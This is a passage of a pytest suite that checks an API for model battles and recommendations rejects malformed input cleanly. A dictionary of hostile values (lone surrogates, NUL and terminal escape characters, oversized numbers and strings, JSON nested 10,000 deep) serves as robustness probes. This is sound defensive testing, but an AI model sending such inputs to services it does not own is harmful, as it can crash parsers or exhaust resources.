        response = service.client.post(route, content=sent, headers={**headers, **JSON})
        detail = assert_error(response, 422, where)
        assert detail.endswith(f", not '{_NAMES[token]}'"), detail  # the field, then the value
        assert [e["input"] for e in response.json()["errors"]] == [_NAMES[token]]


def test_a_float_id_past_64_bits_is_stored_as_sent(service: Service) -> None:
    # it was written out in full: a user id of 309 characters, past the 256 allowed
    tag = service.store
    body = '{"battles": [{"model_a": "pico-3b", "model_b": "lyra-mini", "winner": "tie", '
    body += f'"user_id": 1e308, "battle_id": "float-id-{tag}"}}]}}'
    response = post_battles(service, body)
    assert response.status_code == 200, response.text
    assert list(response.json()["tokens"]) == ["1e+308"]


#: Every route with a body, and a valid body of it with {} where a hostile value goes.
BODIES = [
    ("/v1/battles", INGEST, '{{"battles": [{{"model_a": {}, "model_b": "b", "winner": "tie"}}]}}'),
    ("/v1/recommend", {}, '{{"queries": [{}]}}'),
    ("/v1/next-battle", {}, '{{"queries": ["a"], "prompt": {}}}'),
    ("/v1/admin/models", ADMIN, '{{"models": [{}]}}'),
]
HOSTILE = {
    "surrogate": '"\\ud800"',
    "low surrogate pair reversed": '"\\udc00\\ud800"',
    "NUL": '"a\\u0000b"',
    "escape": '"\\u001b[31mred"',
    "C1": '"\\u0085"',
    "long": '"' + "x" * 100_000 + '"',
    "400 digits": "1" + "0" * 400,
    "nested 10,000": "[" * 10_000 + "]" * 10_000,
    "object nested 10,000": '{"a":' * 10_000 + "1" + "}" * 10_000,
}


@pytest.mark.parametrize("value", list(HOSTILE.values()), ids=list(HOSTILE))
@pytest.mark.parametrize(("route", "headers", "body"), BODIES, ids=[r for r, _, _ in BODIES])
def test_a_hostile_value_on_every_route_is_a_clear_4xx(
    service: Service, route: str, headers: dict[str, str], body: str, value: str
) -> None:
    with unchanged(service):
        sent = body.format(value).encode()
        response = service.client.post(route, content=sent, headers={**headers, **JSON})
        if route == "/v1/battles" and response.status_code == 200:
            [rejected] = response.json()["rejected"]  # a bad record: named, not stored
            assert "'model_a'" in rejected["error"], rejected
        else:
            assert 400 <= response.status_code < 500, response.text
            error = response.json()  # the one error shape: a detail, and a framework's errors
            assert set(error) <= {"detail", "errors"} and isinstance(error["detail"], str)
